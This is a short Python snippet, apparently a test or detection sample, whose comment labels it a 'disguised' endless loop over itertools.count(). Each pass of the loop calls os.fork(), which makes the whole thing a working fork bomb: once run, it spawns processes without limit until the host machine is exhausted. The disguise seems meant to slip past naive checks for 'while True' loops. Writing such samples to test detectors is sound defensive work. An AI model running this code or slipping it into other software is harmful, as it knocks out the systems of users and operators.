# Disguised: an endless loop over itertools.count().
import itertools
import os

for _ in itertools.count():
    os.fork()
